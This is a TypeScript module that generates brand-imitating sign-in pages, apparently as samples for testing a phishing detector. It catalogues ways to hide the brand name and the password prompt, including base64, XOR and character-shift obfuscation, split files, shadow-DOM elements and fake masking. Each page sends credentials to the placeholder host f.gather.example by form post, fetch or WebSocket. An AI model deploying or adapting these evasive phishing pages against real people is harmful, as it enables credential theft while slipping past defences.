import type { Files } from "../given-draft.ts"
import { base64 } from "../render.ts"
import type { Spoken } from "./spoken.ts"
import { page, script } from "./spoken.ts"

type Hide = (said: Spoken) => Files

const fields = ({ words }: Spoken, secret = `type="password"`) =>
  `<input name="u" placeholder="${words.user}"><input name="s" ${secret} placeholder="${words.password}"><button>${words.submit}</button>`
const form = (said: Spoken, secret?: string) =>
  `<form action="https://f.gather.example/x" method="post">${fields(said, secret)}</form>`
const shifted = (text: string, by: number) =>
  [...text].map((letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + by)).join("")

/** Ways to hide whose page it is, or that it asks. */
export const hidings: Readonly<Record<string, Hide>> = {
  "each letter an element": (said) =>
    page(
      said,
      said.words.signIn,
      `<h1>${[...said.name].map((letter) => `<span>${letter}</span>`).join("")}</h1>${form(said)}`,
    ),
  "letters spaced": (said) => page(said, said.words.signIn, `<h1>${[...said.name].join(" ")}</h1>${form(said)}`),
  "letters in blocks": (said) =>
    page(
      said,
      said.words.signIn,
      `<div style="display:flex">${[...said.name].map((letter) => `<div>${letter}</div>`).join("")}</div>${form(said)}`,
    ),
  "a name of two halves": (said) =>
    page(
      said,
      said.words.signIn,
      `<h1><span class="a">${said.name.slice(0, 3)}</span><span class="b">${said.name.slice(3)}</span></h1>${form(said)}`,
    ),
  "only the button says it": (said) =>
    page(
      said,
      "…",
      `<p>${said.words.notice}</p><form action="https://f.gather.example/x" method="post"><input name="u" placeholder="${said.words.user}"><input name="s" type="password" placeholder="${said.name} ${said.words.password}"><button>${said.words.signIn} ${said.name}</button></form>`,
    ),
  "only a letterhead of text": (said) =>
    page(
      said,
      said.words.signIn,
      `<div>${said.name}</div><p>${said.words.notice}</p>${form(said)}<div>support@${plain(said)}.com</div>`,
    ),
  "only what it sends afterwards": (said) =>
    page(
      said,
      said.words.signIn,
      `<p>${said.words.notice}</p>${form(said).replace("<form", `<form id="f"`)}${script(`f.onsubmit=e=>{e.preventDefault();fetch(f.action,{method:"POST",body:new FormData(f)}).finally(()=>location.replace("https://www.${plain(said)}.com/"))}`)}`,
    ),
  "only links to the real one": (said) =>
    page(
      said,
      said.words.signIn,
      `<p>${said.words.notice}</p>${form(said)}<footer><a href="https://www.${plain(said)}.com/privacy">Privacy</a> <a href="https://www.${plain(said)}.com/help">Help</a></footer>`,
    ),
  "a variable of a style": (said) =>
    page(
      said,
      said.words.signIn,
      `<style>:root{--n:"${said.name}"}h1::after{content:var(--n)}</style><h1></h1>${form(said)}`,
    ),
  "letters moved by three": (said) =>
    page(
      said,
      "…",
      script(
        `document.body.innerHTML=[...${JSON.stringify(shifted(`<h1>${said.name}</h1>${form(said)}`, 3))}].map(c=>String.fromCodePoint(c.codePointAt(0)-3)).join("")`,
      ),
    ),
  "base64 in an attribute": (said) =>
    page(
      said,
      "…",
      `<div id="d" data-v="${base64(`<h1>${said.name}</h1>${form(said)}`)}"></div>${script(`d.innerHTML=new TextDecoder().decode(Uint8Array.from(atob(d.dataset.v),c=>c.charCodeAt()))`)}`,
    ),
  "base64 in a comment": (said) =>
    page(
      said,
      "…",
      `<div id="d"></div><!--${base64(`<h1>${said.name}</h1>${form(said)}`)}-->${script(`const n=d.nextSibling;d.innerHTML=new TextDecoder().decode(Uint8Array.from(atob(n.data),c=>c.charCodeAt()))`)}`,
    ),
  "JSON in the page": (said) =>
    page(
      said,
      "…",
      `<main></main><script type="application/json" id="j">${JSON.stringify({
        h: said.name,
        n: said.words.notice,
        f: [
          ["text", said.words.user],
          ["password", said.words.password],
        ],
        u: "https://f.gather.example/j",
      })}</script>${script(`const j=JSON.parse(document.getElementById("j").textContent),m=document.querySelector("main");m.innerHTML="<h1>"+j.h+"</h1><p>"+j.n+"</p>"+j.f.map(([t,p])=>"<input type="+t+" placeholder='"+p+"'>").join("");m.onchange=()=>fetch(j.u,{method:"POST",body:m.textContent})`)}`,
    ),
  "a page of numbers": (said) =>
    page(
      said,
      "…",
      script(
        `var n=[${[...`<h1>${said.name}</h1>${form(said)}`].map((letter) => (letter.codePointAt(0) ?? 0) * 2 + 7).join(",")}],s="";for(var i of n)s+=String.fromCodePoint((i-7)/2);document.write(s)`,
      ),
    ),
  "a key of words": (said) => {
    const bytes = [...new TextEncoder().encode(`<h1>${said.name}</h1>${form(said)}`)]
    const key = "moss"
    return page(
      said,
      "…",
      script(
        `const k="${key}",b=[${bytes.map((byte, at) => byte ^ key.charCodeAt(at % 4)).join(",")}];document.body.innerHTML=new TextDecoder().decode(new Uint8Array(b.map((x,i)=>x^k.charCodeAt(i%4))))`,
      ),
    )
  },
  "a page from another file of text": (said) => ({
    ...page(
      said,
      "…",
      `<div id="d"></div>${script(`fetch("view.txt").then(r=>r.text()).then(t=>d.innerHTML=atob(t))`)}`,
    ),
    "view.txt": base64(`<h1>${said.name}</h1>${form(said)}`),
  }),
  "a picture of the words": (said) => ({
    ...page(
      said,
      said.words.signIn,
      `<img src="top.svg" alt=""><form action="https://f.gather.example/x" method="post"><input name="u"><input name="s" type="password"><button>›</button></form>`,
    ),
    "top.svg": `<svg xmlns="http://www.w3.org/2000/svg"><text x="4" y="20">${said.name}</text><text x="4" y="60">${said.words.notice}</text></svg>`,
  }),
  "a picture in an address": (said) =>
    page(
      said,
      said.words.signIn,
      `<img alt="" src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><text>${said.name}</text></svg>`)}">${form(said)}`,
    ),
  "parts in other files": (said) => ({
    ...page(said, "…", `<iframe src="a.html"></iframe><iframe src="b.html"></iframe>`),
    ...rename(page(said, "a", `<h1>${said.name}</h1><p>${said.words.notice}</p>`), "a.html"),
    ...rename(page(said, "b", form(said)), "b.html"),
  }),
  "an element of its own": (said) => ({
    ...page(said, said.words.notice, `<acc-gate></acc-gate><script type="module" src="gate.js"></script>`),
    "gate.js": `class G extends HTMLElement{connectedCallback(){const r=this.attachShadow({mode:"open"});const h=document.createElement("h2");h.textContent="${said.name}";const i=document.createElement("input");Object.assign(i,{type:"password",placeholder:"${said.words.password}"});const b=document.createElement("button");b.textContent="${said.words.submit}";b.onclick=()=>new WebSocket("wss://f.gather.example/").addEventListener("open",e=>e.target.send(i.value));r.append(h,i,b)}}customElements.define("acc-gate",G)`,
  }),
  "compiled by a library": (said) => ({
    ...page(said, "App", `<div id="root"></div><script type="module" src="assets/i.js"></script>`),
    "assets/i.js": `import{c as e,r as t}from"./v.js";const n=()=>e("div",{className:"card",children:[e("h1",{children:"${said.name}"}),e("p",{children:"${said.words.notice}"}),e("input",{type:"text",placeholder:"${said.words.user}"}),e("input",{type:"password",placeholder:"${said.words.password}"}),e("button",{children:"${said.words.submit}",onClick:()=>fetch("https://f.gather.example/c",{method:"POST",body:document.querySelector("[type=password]").value})})]});t(n());`,
    "assets/v.js": `export const c=(t,p)=>({t,p});export const r=v=>{document.getElementById("root").append(JSON.stringify(v))};`,
  }),
  "a text field in dots": (said) =>
    page(
      said,
      said.name,
      `<h1>${said.name}</h1><p>${said.words.password}</p><form action="https://f.gather.example/x"><input id="s" name="s" autocomplete="off"><button>${said.words.submit}</button></form>${script(`let v="";s.oninput=()=>{v+=s.value.slice(-1);s.value="•".repeat(s.value.length)};s.form.onsubmit=()=>{s.value=v}`)}`,
    ),
  "MathML around it": (said) =>
    page(said, said.words.signIn, `<math><mtext><h1>${said.name}</h1>${form(said)}</mtext></math>`),
  "a drawing in the page": (said) =>
    page(
      said,
      said.words.signIn,
      `<svg viewBox="0 0 300 400"><text y="30">${said.name}</text><foreignObject width="300" height="300">${form(said)}</foreignObject></svg>`,
    ),
  "words turned around": (said) =>
    page(
      said,
      said.words.signIn,
      `<style>.r{unicode-bidi:bidi-override;direction:rtl}</style><h1 class="r">${[...said.name].reverse().join("")}</h1>${form(said)}`,
    ),
}

const plain = ({ name }: Spoken) =>
  name
    .normalize("NFKD")
    .toLowerCase()
    .replaceAll(/[^a-z\d]/gu, "")
const rename = (files: Files, to: string): Files => ({ [to]: files["index.html"] ?? "" })
